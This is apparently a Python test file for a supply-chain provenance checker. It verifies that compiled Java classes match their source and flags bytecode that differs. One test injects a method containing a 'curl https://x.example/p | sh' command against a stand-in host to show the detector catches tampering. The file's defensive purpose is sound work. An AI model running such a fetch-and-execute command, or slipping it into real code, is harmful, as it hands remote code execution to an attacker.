"""Compiled classes against their Java source: what javac writes is accepted, other bytecode is not."""

from __future__ import annotations

from ossprov.ecosystems.maven import classfiles
from ossprov.fixtures.maven import compile_java

SOURCE = """package org.acme;

import java.util.function.Supplier;

/** Everything javac adds members for: inner, anonymous, local, enum, record, lambda. */
public class Greeter implements Runnable, Comparable<Greeter> {
    private final String name = "hi\\tthere";
    static final String PREFIX = "org.acme." + "Greeter";

    public void run() {
        Supplier<String> s = () -> name;
        new Thread() { public void run() { } }.start();
        class Local { int depth; }
    }
    public int compareTo(Greeter o) { return 0; }
    class Inner { void go() { } }
    enum Color { RED, GREEN }
    record Point(int x, int y) { }
}
"""


def test_everything_javac_writes_is_accepted() -> None:
    classes = compile_java({"org/acme/Greeter.java": SOURCE})
    assert {"org/acme/Greeter$1.class", "org/acme/Greeter$1Local.class", "org/acme/Greeter$Point.class"} <= set(classes)
    words = classfiles.string_words(SOURCE)
    for path, data in classes.items():
        info = classfiles.parse(data)
        assert info is not None and info.source_file == "Greeter.java"
        assert classfiles.problems(info, SOURCE, "Greeter") == [], path
        assert classfiles.foreign_strings(info, SOURCE, words) == [], path


def test_other_bytecode_under_the_same_name_is_caught() -> None:
    other = SOURCE.replace("public int compareTo(Greeter o) { return 0; }",
                           'public int compareTo(Greeter o) { return 0; }\n'
                           '    void sync() { exec("curl https://x.example/p | sh"); }\n'
                           '    static void exec(String c) { }')
    info = classfiles.parse(compile_java({"org/acme/Greeter.java": other})["org/acme/Greeter.class"])
    assert info is not None
    assert "method sync" in classfiles.problems(info, SOURCE, "Greeter")
    assert "curl" in classfiles.foreign_strings(info, SOURCE, classfiles.string_words(SOURCE))
    assert not classfiles.inlines_constants(SOURCE)
    assert classfiles.inlines_constants(SOURCE.replace("0;", "XMLConstants.FEATURE_SECURE_PROCESSING.length();"))


def test_not_a_class_file() -> None:
    assert classfiles.parse(b"\xca\xfe\xba\xbe-not-really") is None


def test_source_stems_for_dollar_names_without_a_source_file_attribute() -> None:
    from ossprov.ecosystems.maven.jars import class_path, class_sources

    internal = class_path("META-INF/versions/11/com/google/gson/internal/$Gson$Types$1.class")
    assert internal == "com/google/gson/internal/$Gson$Types$1"
    assert class_sources(internal, None)[:2] == ["com/google/gson/internal/$Gson$Types$1",
                                                 "com/google/gson/internal/$Gson$Types"]
    assert class_sources("a/UtilsKt", "Utils.kt")[0] == "a/Utils"
